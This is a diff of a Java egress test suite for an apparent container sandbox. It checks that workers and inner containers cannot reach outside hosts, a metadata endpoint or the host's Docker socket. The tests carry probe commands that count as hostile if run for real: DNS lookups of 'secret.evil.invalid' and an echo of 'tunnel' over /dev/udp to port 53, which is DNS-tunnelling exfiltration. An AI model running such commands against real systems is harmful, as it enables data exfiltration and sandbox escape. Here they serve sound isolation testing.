@@ -168,9 +168,8 @@ final class EgressTest {
     @Test
     void names_areAskedOfNobodyOutside() {
         StandIn names = StandIn.outside(world, "names");
-        String asked =
-                "for n in secret.evil.invalid secret.rebind.test; do timeout 10 getent hosts $n && exit 1; done; "
-                        + "timeout 2 bash -c 'echo tunnel > /dev/udp/" + names.address() + "/53'; exit 0";
+        String asked = "for n in secret.evil.invalid secret.rebind.test; do timeout 3 getent hosts $n && exit 1; done; "
+                + "timeout 2 bash -c 'echo tunnel > /dev/udp/" + names.address() + "/53'; exit 0";
 
         String badly = world.start(
                 "asking",
@@ -193,9 +192,23 @@ final class EgressTest {
     }
 
     @Test
+    void innerContainers_areBoundByTheLane() throws IOException {
+        InnerEngine engine = InnerEngine.start(world, worker, lane).withBox();
+        String wget = "/bin/busybox wget -T 3 -q -O - http://";
+        String proxied = "http_proxy=" + lane.environment().get("TANDEMWORK_PROXY") + " " + wget;
+
+        assertThat(engine.box(proxied + "model.test:" + service.port() + "/")).isEqualTo(HostService.ANSWER);
+        assertThat(engine.box(wget + forbidden.address() + ":8000/")).contains("wget:");
+        assertThat(engine.box(wget + service.address() + ":" + service.port() + "/"))
+                .contains("wget:");
+        assertThat(engine.box(wget + METADATA + ":8000/")).contains("wget:");
+        assertThat(engine.box(proxied + "inner.invalid/")).contains("403 Forbidden");
+        assertThat(accesses.await("GET inner.invalid:80").isDenied()).isTrue();
+    }
+
+    @Test
     void engineOfTheHost_isNotThere() {
-        assertThat(world.sh(worker, "find / -xdev -name 'docker.sock' -o -xdev -name containerd.sock 2>/dev/null")
-                        .stdout())
+        assertThat(world.sh(worker, "grep docker.sock /proc/self/mountinfo").stdout())
                 .isEmpty();
     }
 
